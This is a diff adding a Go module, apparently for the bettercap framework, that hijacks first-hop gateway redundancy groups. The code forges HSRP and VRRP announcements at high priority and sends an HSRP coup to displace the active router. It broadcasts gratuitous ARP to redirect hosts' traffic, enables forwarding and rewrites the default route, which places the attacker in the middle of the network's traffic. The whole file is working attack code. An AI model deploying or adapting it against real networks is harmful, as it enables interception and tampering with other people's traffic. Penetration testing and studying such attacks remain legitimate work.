@@ -0,0 +1,203 @@
+package fhrp_spoof
+
+import (
+	"fmt"
+	"net"
+	"runtime"
+	"strings"
+	"time"
+
+	"github.com/bettercap/bettercap/core"
+	"github.com/bettercap/bettercap/packets"
+	"github.com/bettercap/bettercap/session"
+
+	"github.com/evilsocket/islazy/tui"
+)
+
+// how many times the relinquish messages are sent
+const releaseRounds = 3
+
+func (mod *FHRPSpoofer) takenOver() bool {
+	mod.Lock()
+	defer mod.Unlock()
+	return mod.target != nil
+}
+
+func (mod *FHRPSpoofer) hsrpMessage(g *Group, opcode uint8, state uint8) (error, []byte) {
+	h := *g.hsrp
+	h.OpCode = opcode
+	h.State = state
+	h.Priority = uint32(mod.priority)
+	h.Identifier = mod.Session.Interface.HW
+	return packets.NewHSRPPacket(mod.Session.Interface.IP, mod.Session.Interface.HW, &h)
+}
+
+func (mod *FHRPSpoofer) vrrpMessage(g *Group, priority uint8) (error, []byte) {
+	v := *g.vrrp
+	v.Priority = priority
+	return packets.NewVRRPPacket(mod.Session.Interface.IP, mod.Session.Interface.HW, &v)
+}
+
+func (mod *FHRPSpoofer) send(err error, raw []byte) {
+	if err != nil {
+		mod.Error("error creating packet: %v", err)
+	} else if err = mod.Session.Queue.Send(raw); err != nil {
+		mod.Error("error sending packet: %v", err)
+	}
+}
+
+// make the hosts resolve the virtual address to hw
+func (mod *FHRPSpoofer) gratuitousARP(g *Group, hw net.HardwareAddr) {
+	broadcast := net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}
+	mod.send(packets.NewARPReply(g.VirtualIP, hw, g.VirtualIP, broadcast))
+}
+
+func (mod *FHRPSpoofer) announce(g *Group) {
+	if g.Protocol == "hsrp" {
+		mod.send(mod.hsrpMessage(g, packets.HSRPOpHello, packets.HSRPStateActive))
+	} else {
+		mod.send(mod.vrrpMessage(g, uint8(mod.priority)))
+	}
+	mod.gratuitousARP(g, mod.Session.Interface.HW)
+}
+
+func (mod *FHRPSpoofer) setDefaultRoute(gw net.IP) error {
+	var err error
+
+	iface := mod.Session.Interface.Name()
+	os := runtime.GOOS
+	if strings.Contains(os, "bsd") || os == "darwin" {
+		_, err = core.Exec("route", []string{"change", "default", gw.String()})
+	} else if os == "linux" || os == "android" {
+		_, err = core.Exec("ip", []string{"route", "replace", "default", "via", gw.String(), "dev", iface})
+	} else {
+		return fmt.Errorf("OS %s is not supported by the fhrp.spoof routing, please route the traffic manually through %s", os, gw)
+	}
+
+	return err
+}
+
+func (mod *FHRPSpoofer) takeover(key string) error {
+	var err error
+
+	if !mod.Running() {
+		return session.ErrAlreadyStopped(mod.Name())
+	} else if mod.takenOver() {
+		return fmt.Errorf("a group has already been taken over, release it first")
+	} else if err, mod.priority = mod.IntParam("fhrp.spoof.priority"); err != nil {
+		return err
+	} else if mod.priority < 1 || mod.priority > 255 {
+		return fmt.Errorf("fhrp.spoof.priority must be between 1 and 255")
+	}
+
+	err, doRoute := mod.BoolParam("fhrp.spoof.route")
+	if err != nil {
+		return err
+	}
+
+	mod.Lock()
+	g, found := mod.groups[key]
+	if !found {
+		mod.Unlock()
+		return fmt.Errorf("group %s not found, use fhrp.spoof.show to list the groups seen so far", key)
+	} else if !g.Weak {
+		mod.Unlock()
+		return fmt.Errorf("group %s uses %s authentication, can't take it over", key, g.Auth)
+	}
+	mod.target = g
+	mod.Unlock()
+
+	if !mod.Session.Firewall.IsForwardingEnabled() {
+		mod.Info("enabling forwarding")
+		mod.Session.Firewall.EnableForwarding(true)
+		mod.restoreForwarding = true
+	}
+
+	// our own traffic can't go through the virtual address anymore
+	mod.origRoute = nil
+	if doRoute && mod.Session.Gateway != nil && mod.Session.Gateway.IP.Equal(g.VirtualIP) {
+		if err := mod.setDefaultRoute(g.Router); err != nil {
+			mod.Warning("could not route through %s: %v", g.Router, err)
+		} else {
+			mod.origRoute = g.VirtualIP
+			mod.Info("routing traffic through %s", tui.Bold(g.Router.String()))
+		}
+	}
+
+	if g.Protocol == "hsrp" {
+		// ask the active router to step down before announcing ourselves
+		mod.send(mod.hsrpMessage(g, packets.HSRPOpCoup, packets.HSRPStateSpeak))
+	}
+
+	interval := time.Duration(g.Interval) * time.Millisecond
+	if interval < time.Second {
+		interval = time.Second
+	}
+
+	mod.Info("taking over %s group %d announcing priority %d every %s", strings.ToUpper(g.Protocol), g.ID, mod.priority, interval)
+
+	go func() {
+		for mod.Running() {
+			mod.Lock()
+			current := mod.target
+			mod.Unlock()
+
+			if current != g {
+				return
+			}
+
+			mod.announce(g)
+			time.Sleep(interval)
+		}
+	}()
+
+	return nil
+}
+
+func (mod *FHRPSpoofer) release() error {
+	mod.Lock()
+	g := mod.target
+	mod.target = nil
+	mod.Unlock()
+
+	if g == nil {
+		return fmt.Errorf("no group has been taken over")
+	}
+
+	mod.Info("relinquishing %s group %d to %s", strings.ToUpper(g.Protocol), g.ID, g.Router)
+
+	for i := 0; i < releaseRounds; i++ {
+		if g.Protocol == "hsrp" {
+			mod.send(mod.hsrpMessage(g, packets.HSRPOpResign, packets.HSRPStateActive))
+		} else {
+			// priority zero makes the backups take over immediately
+			mod.send(mod.vrrpMessage(g, 0))
+		}
+
+		// give the hosts back the virtual mac address of the group
+		if g.Protocol == "hsrp" {
+			mod.gratuitousARP(g, packets.HSRPVirtualMAC(g.Version, g.ID))
+		} else {
+			mod.gratuitousARP(g, packets.VRRPVirtualMAC(uint8(g.ID)))
+		}
+
+		time.Sleep(100 * time.Millisecond)
+	}
+
+	if mod.origRoute != nil {
+		if err := mod.setDefaultRoute(mod.origRoute); err != nil {
+			mod.Error("could not restore the default route via %s: %v", mod.origRoute, err)
+		} else {
+			mod.Info("default route restored via %s", mod.origRoute)
+		}
+		mod.origRoute = nil
+	}
+
+	if mod.restoreForwarding {
+		mod.Info("disabling forwarding")
+		mod.Session.Firewall.EnableForwarding(false)
+		mod.restoreForwarding = false
+	}
+
+	return nil
+}